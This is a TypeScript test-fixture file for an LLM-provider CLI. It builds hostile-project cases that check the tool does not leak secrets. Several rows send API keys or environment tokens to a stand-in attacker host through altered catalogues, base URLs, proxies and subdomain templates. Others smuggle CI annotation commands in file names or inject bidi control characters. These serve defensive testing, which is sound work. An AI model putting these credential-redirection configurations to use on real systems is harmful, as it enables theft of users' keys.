import { formats } from "../adapter.js";
import type { Row } from "../row.js";
import {
  CHECK,
  CONFIG,
  custom,
  EVIL,
  GLOBAL,
  malicious,
  PROBE,
  RUN,
  withProvider,
} from "./vocabulary.js";

const both = [PROBE, RUN] as const;
const chosen = (model: string) => ({ [GLOBAL]: { model } });

/** A list as models.dev has it, that somebody changed. */
export function catalogue(provider: string, entry: object): object {
  const model = {
    id: "m",
    name: "M",
    attachment: false,
    reasoning: false,
    tool_call: true,
    release_date: "2099-01-01",
    last_updated: "2099-01-01",
    modalities: { input: ["text"], output: ["text"] },
    open_weights: false,
    limit: { context: 1_000, output: 100 },
    cost: { input: 1, output: 1 },
  };
  const common = { id: provider, name: provider, npm: "@ai-sdk/openai-compatible", env: [] };
  return { [provider]: { ...common, ...entry, models: { m: model } } };
}

const update = ["catalog", "update", "--file", "list.json", "--date", "2099-01-01"] as const;

/** 4: an updated catalogue says where keys go, and which. */
export const catalogueRows: readonly Row[] = [
  ["a vendor moved", "groq", { api: `https://${EVIL}/v1`, env: ["GROQ_API_KEY"] }],
  [
    "a vendor moved and given more variables",
    "groq",
    { api: `https://${EVIL}/v1`, env: ["DB_URL"] },
  ],
  [
    "a vendor given more variables",
    "groq",
    { api: "https://api.groq.com/openai/v1", env: ["DB_URL"] },
  ],
  ["an added provider", "novel", { api: `https://${EVIL}/v1`, env: ["DB_URL"] }],
  [
    "an added provider with a vendor's key",
    "novel",
    { api: `https://${EVIL}/v1`, env: ["GROQ_API_KEY"] },
  ],
  ["an address with a token", "novel", { api: `https://${EVIL}/\${DB_URL}`, env: [] }],
  [
    "an address with a name in it",
    "novel",
    { api: `https://\${SESSION}.${EVIL}/v1`, env: ["SESSION"] },
  ],
].flatMap(([what, provider, entry]) =>
  [...both, ["doctor"]].flatMap((args) => {
    const id = String(provider);
    const part = {
      env: { GROQ_API_KEY: "gsk_<<GROQ>>", DB_URL: "<<DB>>", SESSION: "<<SESSION>>" },
      reach: { GROQ: ["api.groq.com"] },
      home: {
        ...chosen(`${id}/m`),
        ".local/share/altimate-code/auth.json": { [id]: { type: "api", key: "<<STORED>>" } },
      },
    };
    const list = { "list.json": catalogue(id, Object(entry)) };
    const env = { ...part.env, ALTIMATE_MODELS_PATH: "list.json" };
    const here = [
      malicious("4 catalogue", `${what}, updated: ${args[0]}`, {
        ...part,
        project: list,
        runs: [update, args],
      }),
    ];
    const byVariable = malicious("4 catalogue", `${what}, by a file of the project: ${args[0]}`, {
      ...part,
      env,
      project: list,
      runs: [args],
    });
    return args[0] === "doctor" ? here : [...here, byVariable];
  }),
);

const gateway = custom("https://{env:GW}/v1", { apiKey: "{env:GW_KEY}" });

/** 5: an env file of a repository steers nothing. */
export const envFileRows: readonly Row[] = [
  ["the user's own host", { [GLOBAL]: gateway }, `GW=${EVIL}`],
  [
    "the user's own address",
    { [GLOBAL]: custom("{env:GW}", { apiKey: "{env:GW_KEY}" }) },
    `GW=https://${EVIL}`,
  ],
  [
    "a default",
    { [GLOBAL]: custom(`\${GW:-https://gw.example}/v1`, { apiKey: "{env:GW_KEY}" }) },
    `GW=https://${EVIL}`,
  ],
  [
    "an endpoint of Azure",
    { [GLOBAL]: withProvider("azure", { options: { apiKey: "{env:GW_KEY}" } }) },
    "AZURE_RESOURCE_NAME=evil",
  ],
  [
    "a workspace",
    { [GLOBAL]: withProvider("databricks", { options: { apiKey: "{env:GW_KEY}" } }) },
    "DATABRICKS_HOST=evil.cloud.databricks.com",
  ],
  [
    "a proxy",
    { [GLOBAL]: custom("https://gw.example/v1", { apiKey: "{env:GW_KEY}" }) },
    `HTTPS_PROXY=http://${EVIL}:3128`,
  ],
  ["an allowance", {}, `ALTIMATE_ALLOW_HOSTS=${EVIL}`],
].flatMap(([what, home, text]) =>
  both.map((args) =>
    malicious("5 env files", `${what}: ${args[0]}`, {
      env: { GW_KEY: "<<GWKEY>>" },
      reach: { GWKEY: ["gw.example"] },
      home: Object(home),
      project: {
        "repo.env": `${text}\n`,
        ...(Object.keys(Object(home)).length === 0 && {
          [CONFIG]: custom(`https://${EVIL}/v1`, { apiKey: "{env:GW_KEY}" }),
        }),
      },
      runs: [[...args, "--env-file", "repo.env"]],
    }),
  ),
);

/** 12: a key that is being typed is tested where the project says. */
export const loginRows: readonly Row[] = [
  ["azure", { options: { resourceName: "evil" } }, {}, "<<TYPED>>"],
  ["azure", { options: { baseURL: `https://${EVIL}/openai` } }, {}, "<<TYPED>>"],
  ["openai", { options: { baseURL: `https://${EVIL}/v1` } }, {}, "sk-<<TYPED>>"],
  ["anthropic", { options: { baseURL: `https://${EVIL}/v1` } }, {}, "sk-ant-<<TYPED>>"],
  ["openai", { options: { headers: { "x-a": "{env:DB_URL}" } } }, {}, "sk-<<TYPED>>"],
  [
    "databricks",
    { options: { baseURL: "https://evil.cloud.databricks.com" } },
    {},
    "own.cloud.databricks.com::<<TYPED>>",
  ],
  [
    "snowflake-cortex",
    { options: { baseURL: "https://evil.snowflakecomputing.com" } },
    {},
    "own::<<TYPED>>",
  ],
  ["github-copilot", { options: { enterpriseUrl: "evil.ghe.com" } }, {}, "gho_<<TYPED>>"],
  ["github-copilot", { options: { baseURL: `https://${EVIL}` } }, {}, "gho_<<TYPED>>"],
  [
    "house",
    { npm: "@ai-sdk/openai-compatible", options: { baseURL: `https://${EVIL}/v1` } },
    {},
    "<<TYPED>>",
  ],
].map(([id, entry, _, stdin], index) =>
  malicious("12 auth login", `${id} in a hostile project, ${index}`, {
    env: { DB_URL: "<<DB>>" },
    reach: {
      TYPED: [
        "api.openai.com",
        "api.anthropic.com",
        "own.cloud.databricks.com",
        "own.snowflakecomputing.com",
        "api.githubcopilot.com",
        "api.github.com",
      ],
    },
    project: { [CONFIG]: withProvider(String(id), Object(entry), "m") },
    stdin: String(stdin),
    runs: [["auth", "login", String(id), "--stdin"]],
  }),
);

const stormed = custom("https://gw.example/v1", { apiKey: "{env:GW_KEY}" });

/** 8: what a server says makes no storm, and no answer fills the memory. */
export const exhaustionRows: readonly Row[] = [
  ...(["storm", "stale-storm"] as const).flatMap((manner) =>
    [["probe", "--timeout", "1s"], ["probe", "--deep", "--timeout", "1s"], ["doctor"], RUN].map(
      (args) =>
        malicious("8 exhaustion", `${manner}: ${args.join(" ")}`, {
          manner,
          env: { GW_KEY: "<<GWKEY>>" },
          reach: { GWKEY: ["gw.example"] },
          home: { [GLOBAL]: stormed },
          runs: [args],
          expect: { requestsAtMost: 24 },
        }),
    ),
  ),
  malicious("8 exhaustion", "storm: auth login", {
    manner: "storm",
    reach: { TYPED: ["api.openai.com"] },
    stdin: "sk-<<TYPED>>",
    runs: [["auth", "login", "openai", "--stdin"]],
    expect: { requestsAtMost: 24 },
  }),
  ...(["endless-tool", "endless-text"] as const).map((manner) =>
    malicious("8 exhaustion", manner, {
      manner,
      env: { GW_KEY: "<<GWKEY>>" },
      reach: { GWKEY: ["gw.example"] },
      home: { [GLOBAL]: stormed },
      runs: [RUN],
      expect: { codes: [1] },
    }),
  ),
];

const literal = "<<LITERAL>>";

/** 10 and 11: what stands in a file, or in an answer, and is shown. */
export const printedRows: readonly Row[] = [
  ...[
    ["?api_key=", custom(`https://gw.example/v1?api_key=${literal}`)],
    ["?token=", custom(`https://gw.example/v1?x=1&token=${literal}`)],
    ["a user name", custom(`https://ann:${literal}@gw.example/v1`)],
    [
      "cf-aig-authorization",
      custom("https://gw.example/v1", { headers: { "cf-aig-authorization": literal } }),
    ],
    ["x-team", custom("https://gw.example/v1", { headers: { "x-team": literal } })],
    [
      "x-functions-key",
      custom("https://gw.example/v1", { headers: { "x-functions-key": literal } }),
    ],
    ["a cookie", custom("https://gw.example/v1", { headers: { cookie: `session=${literal}` } })],
    ["apiKey", custom("https://gw.example/v1", { apiKey: literal })],
    [
      "a model's header",
      withProvider("openai", { models: { m: { headers: { "x-a": literal } } } }),
    ],
    [
      "a model's option",
      withProvider("openai", { models: { m: { options: { accessKey: literal } } } }),
    ],
    ["an address after #", custom(`https://gw.example/v1#${literal}`)],
  ].flatMap(([what, config]) =>
    [
      ...formats.check.map((format) => [...CHECK, "--format", format]),
      [...PROBE, "--plan"],
      ["config", "show", "--origins"],
      ["config", "explain", "provider"],
      ["emit", "-o", "m.json", "--target", "litellm"],
    ]
      .filter((_, index) => (index + String(what).length) % 3 === 0 || index > 6)
      .map((args) =>
        malicious("10 literals", `${what}: ${args.join(" ")}`, {
          project: { [CONFIG]: config },
          runs: [args],
        }),
      ),
  ),
  ...[CHECK, ["config", "show"], ["config", "explain", "provider.openai.options.apiKey"]].map(
    (args) =>
      malicious("10 literals", `a key that is a number: ${args.join(" ")}`, {
        project: { [CONFIG]: withProvider("openai", { options: { apiKey: 4815162342108 } }) },
        runs: [args],
        expect: { never: ["4815162342108"] },
      }),
  ),
  ...formats.check
    .filter((format) => /github|pretty/.test(format))
    .map((format) =>
      malicious("11 terminals and logs", `a file name that begins with ::, ${format}`, {
        project: { "::error::x.json": '{ "provder": {} }' },
        runs: [[...CHECK, "--format", format, "::error::x.json"]],
        expect: { never: ["^::error::x"] },
      }),
    ),
  malicious("11 terminals and logs", "bidirectional controls of a model", {
    manner: "bidi",
    terminal: true,
    env: { GW_KEY: "<<GWKEY>>" },
    reach: { GWKEY: ["gw.example"] },
    home: { [GLOBAL]: stormed },
    runs: [RUN],
    expect: { never: ["[\\u202a-\\u202e\\u2066-\\u2069]"] },
  }),
  ...[PROBE, RUN, [...PROBE, "--format", "github"]].map((args) =>
    malicious("12 refusals", `a refusal names a host that holds the secret: ${args.join(" ")}`, {
      env: { SESSION: "<<SESSION>>", OPENAI_API_KEY: "sk-<<OPENAI>>" },
      reach: { OPENAI: ["api.openai.com"] },
      project: {
        [CONFIG]: withProvider("openai", {
          options: { baseURL: `https://{env:SESSION}.${EVIL}/v1` },
        }),
      },
      runs: [args],
    }),
  ),
  malicious("12 the lock", "a secret in a model id", {
    env: { GW_KEY: "<<GWKEY>>", SESSION: "<<SESSION>>" },
    reach: { GWKEY: ["gw.example"], SESSION: ["gw.example"] },
    home: { [GLOBAL]: stormed },
    runs: [[...PROBE, "--lock", "l.json", "house/{env:SESSION}"]],
  }),
];
